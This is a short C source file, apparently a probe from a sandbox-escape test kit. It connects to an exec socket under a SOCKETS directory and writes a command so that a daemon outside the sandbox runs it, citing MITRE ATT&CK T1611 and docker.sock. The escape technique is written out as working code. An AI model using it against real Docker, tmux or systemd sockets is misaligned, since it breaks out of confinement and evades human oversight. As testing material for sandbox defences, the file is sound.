// tries: to have a daemon outside carry out a command, over its stream socket
// works: it trusts whoever can open the socket, as Docker, tmux and systemd's private socket do
// see: MITRE ATT&CK T1611; docker.sock
// goal: change
#include "../kit.h"

int main(void)
{
	struct sockaddr_un to;
	socklen_t length = local(&to, join(env("SOCKETS"), "/exec.sock"));
	int s = MUST(socket(AF_UNIX, SOCK_STREAM, 0));

	MUST(connect(s, (void *)&to, length));
	return MUST(write(s, order(), strlen(order()))) < 0;
}
